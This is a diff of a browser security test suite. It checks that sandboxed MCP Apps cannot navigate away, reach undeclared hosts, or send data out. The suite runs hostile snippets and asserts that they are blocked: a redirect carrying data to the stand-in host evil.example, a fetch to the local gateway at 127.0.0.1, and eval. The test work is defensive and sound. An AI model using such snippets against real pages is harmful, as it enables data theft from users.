@@ -1,4 +1,5 @@
 // Attacks of an MCP App on the page that shows it, in a real browser. The app runs the code that its call has.
+import type { Page } from 'playwright-core'
 import { expect, it } from 'vitest'
 import { openHosted, printed } from '../web/hosted-apps.ts'
 import { usePage } from '../web/use-page.ts'
@@ -75,7 +76,7 @@ it('an app leads the page nowhere, opens nothing and shows no dialogs', async ()
   expect(page.frames().every((frame) => !/^https?:..evil/.test(frame.url()))).toBe(true)
 })
 
-it('an app reaches no host that it has not declared, also not the gateway, and cannot go away with data', async () => {
+it('an app reaches no host that it has not declared, also not the gateway', async () => {
   const gone: string[] = []
   const { page, outcome, view } = await attack(
     {
@@ -92,7 +93,6 @@ it('an app reaches no host that it has not declared, also not the gateway, and c
       gateway: `return (await fetch('${'http://127.0.0.1'}' + ':' + 1 + '/')).status`,
       eval: "return eval('1 + 1')",
       module: "return typeof (await import('/app/sandbox'))",
-      away: "location = 'https://evil.example/?data'; return 'refused'",
     },
     {
       before: async (page: {
@@ -111,6 +111,22 @@ it('an app reaches no host that it has not declared, also not the gateway, and c
   expect(gone).toEqual([])
   expect(await view.locator('#title').textContent()).toBe('Puppet')
   expect(page.frames().some((frame) => /^https?:..evil/.test(frame.url()))).toBe(false)
+})
+
+it('an app that goes away with data is held back: its frame may show nothing else', async () => {
+  const gone: string[] = []
+  const refused: string[] = []
+  const before = async (page: Page) => {
+    page.on('console', (message) => refused.push(message.text()))
+    await page.route('**evil.example/**', (route) => {
+      gone.push(route.request().url())
+      return route.abort()
+    })
+  }
+  const { page } = await openHosted(pages, "location = 'https://evil.example/?data'", { before })
+  await expect.poll(() => refused.some((line) => line.includes('frame-src'))).toBe(true)
+  expect(gone).toEqual([])
+  expect(new URL(page.url()).origin).toBe(new URL(pages.world.url).origin)
 })
 
 it('an app reaches what it has declared, and a wildcard is not a declaration', async () => {
